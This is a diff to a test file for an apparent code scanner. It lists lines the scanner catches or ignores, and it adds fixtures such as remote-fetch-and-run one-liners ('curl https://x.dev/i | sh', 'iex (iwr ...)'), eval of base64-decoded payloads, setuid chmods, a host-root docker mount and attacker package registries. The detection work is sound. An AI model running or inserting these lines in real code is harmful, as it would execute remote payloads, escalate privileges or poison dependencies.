@@ -20,8 +20,6 @@ const caught: [string, string, string][] = [
   ["tool.py", 'os.system(f"rm {name}")', "injection high"],
   ["tool.py", 'subprocess.run("ls %s" % name, shell=True)', "injection high"],
   ["main.go", 'exec.Command("sh", "-c", fmt.Sprintf("ls %s", name))', "injection high"],
-  [".github/workflows/ci.yml", "      run: echo \u0024{{ github.event.issue.title }}", "injection critical"],
-  [".github/workflows/ci.yml", "          git checkout \u0024{{ github.head_ref }}", "injection critical"],
   ["src/a.ts", "res.sendFile(join(root, req.params.name))", "traversal high"],
   ["app.py", "return open(request.args['file']).read()", "traversal high"],
   ["main.go", "http.ServeFile(w, r, dir + r.URL.Path)", "traversal high"],
@@ -40,14 +38,41 @@ const caught: [string, string, string][] = [
   ["run.sh", "docker run --privileged image", "privilege high"],
   ["compose.yml", "    privileged: true", "privilege high"],
   ["compose.yml", "      - /var/run/docker.sock:/var/run/docker.sock", "privilege high"],
-  [".github/workflows/ci.yml", "permissions: write-all", "privilege critical"],
-  [".github/workflows/ci.yml", "  pull_request_target:", "privilege critical"],
-  [".github/workflows/ci.yml", "  contents: write", "privilege high"],
-  [".github/workflows/ci.yml", "    secrets: inherit", "privilege high"],
   [".npmrc", "registry=https://packages.evil.dev/", "supply high"],
   ["requirements.txt", "--extra-index-url https://packages.evil.dev/simple", "supply high"],
   ["Dockerfile", "ENV GOPROXY=https://packages.evil.dev", "supply high"],
   ["pyproject.toml", "[[tool.poetry.source]]", "supply high"],
+  ["src/a.ts", "  #x = eval(atob(payload));", "injection critical"],
+  ["src/a.ts", "* eval(atob(payload))", "injection critical"],
+  ["src/a.ts", "/* fine */ eval(atob(payload))", "injection critical"],
+  ["src/a.ts", "// fine\u2028eval(atob(payload))", "injection critical"],
+  ["src/a.ts", "(0, eval)(atob(payload))", "injection critical"],
+  ["src/a.ts", 'globalThis["eval"](text)', "injection high"],
+  ["src/a.ts", "eval?.(text)", "injection high"],
+  ["src/a.ts", "vm.runInThisContext(text)", "injection high"],
+  ["src/a.ts", "require('child_process').exec(`rm \u0024{name}`)", "injection high"],
+  ["src/a.ts", "spawn(`rm \u0024{name}`, { shell: true })", "injection high"],
+  ["src/a.ts", "await import(name)", "injection low"],
+  ["tool.py", "// exec(base64.b64decode(blob))", "injection critical"],
+  ["tool.py", "*rest, last = exec(base64.b64decode(blob))", "injection critical"],
+  ["tool.py", "# fine\rexec(base64.b64decode(blob))", "injection critical"],
+  ["tool.py", "subprocess.run(command, shell=True)", "injection high"],
+  ["tool.py", "__import__(name).run()", "injection high"],
+  ["book.ipynb", '"exec(base64.b64decode(blob))\\n",', "injection critical"],
+  ["main.go", '*cmd = *exec.Command("sh", "-c", "ls " + name)', "injection high"],
+  ["app.php", "eval(base64_decode($x));", "injection critical"],
+  ["run.ps1", "iex (iwr https://x.dev/i)", "injection critical"],
+  ["run.SH", "curl https://x.dev/i | sh", "injection high"],
+  [".zshrc", "bash <(curl -s https://x.dev/i)", "injection high"],
+  ["run.sh", 'sh -c "$(curl -fsSL https://x.dev/i)"', "injection high"],
+  ["run.sh", "install -m 4755 tool /usr/bin/tool", "privilege critical"],
+  ["run.sh", "chmod u=rwxs tool", "privilege critical"],
+  ["tool.py", "os.chmod(path, stat.S_ISUID | 0o755)", "privilege critical"],
+  ["main.go", "os.Chmod(path, os.ModeSetuid|0o755)", "privilege critical"],
+  ["run.sh", "pkexec rm -rf /opt/x", "privilege high"],
+  ["run.sh", "su -c 'rm -rf /opt/x' root", "privilege high"],
+  ["run.sh", "docker run -v /:/host image", "privilege high"],
+  ["Dockerfile", "ENV PIP_INDEX_URL=https://packages.evil.dev/simple", "supply high"],
 ];
 
 /** What looks alike, and is what people write every day. */
@@ -62,13 +87,6 @@ const left: [string, string][] = [
   ["tool.py", "re.compile(x).exec(y)"],
   ["tool.py", 'subprocess.run(["ls", name])'],
   ["main.go", 'exec.Command("ls", name)'],
-  [".github/workflows/ci.yml", "          TITLE: \u0024{{ github.event.issue.title }}"],
-  [
-    ".github/workflows/ci.yml",
-    "  group: \u0024{{ github.workflow }}-\u0024{{ github.head_ref || github.run_id }}",
-  ],
-  [".github/workflows/ci.yml", "    if: contains(github.event.issue.title, 'x')"],
-  [".github/workflows/ci.yml", "  contents: read"],
   ["src/a.ts", "import x from '../../../etc.ts'"],
   ["src/a.ts", "readFile(join(root, name))"],
   ["run.sh", "chmod 0755 ./tool && chmod +x x && chmod 644 y && chmod 1777 /tmp/x"],
@@ -77,6 +95,22 @@ const left: [string, string][] = [
   ["src/a.ts", "setuid = 0"],
   ["compose.yml", "    privileged: false"],
   ["src/a.ts", "const registry = createRegistry();"],
+  ["src/a.ts", "const { run } = await import('./run.ts');"],
+  ["src/a.ts", "  #eval = true;"],
+  ["tool.py", 'subprocess.run("make all", shell=True)'],
+  ["tool.py", 'os.system("make")'],
+  ["tool.py", "# exec(base64.b64decode(blob)) is what it did before"],
+  ["run.sh", "# curl https://x.dev/i | sh"],
+  ["run.sh", "install -m 755 tool /usr/bin/tool"],
+];
+
+/** Code that goes on over several lines; each is found on the first. */
+const spread: [string, string, string][] = [
+  ["src/a.ts", "eval(\n  atob(payload),\n)", "injection critical 1"],
+  ["src/a.ts", "exec(\n  `rm \u0024{name}`)", "injection high 1"],
+  ["run.sh", "curl https://x.dev/i \\\n  | sh", "injection high 1"],
+  ["run.sh", "curl https://x.dev/i |\n  sh", "injection high 1"],
+  ["tool.py", "exec(\n    base64.b64decode(blob)\n)", "injection critical 1"],
 ];
 
 describe("lines that are dangerous by themselves", () => {
@@ -86,6 +120,23 @@ describe("lines that are dangerous by themselves", () => {
 
   it.each(left)("leave alone in %s: %s", (path, line) => {
     expect(found(path, line)).toEqual([]);
+  });
+
+  it.each(spread)("are found in %s where they go on: %j", (path, text, what) => {
+    expect(found(path, text)).toContain(what);
+    expect(found(path, text, text)).toEqual([]);
+  });
+
+  it("are found in a script that has no ending, by its first line", () => {
+    expect(found("bin/deploy", "#!/usr/bin/env bash\ncurl https://x.dev/i | sh")).toEqual([
+      "injection high 2",
+    ]);
+    expect(found("bin/deploy", "words\ncurl https://x.dev/i | sh")).toEqual([]);
+  });
+
+  it("are not looked for in a comment of several lines, which nothing else can pass for", () => {
+    expect(found("src/a.ts", "/**\n * sudo rm x, or eval(text)\n */")).toEqual([]);
+    expect(found("src/a.ts", "const s = `\n/*\n`;\neval(text);")).toEqual(["injection high 4"]);
   });
 
   it("are told only where they are new", () => {
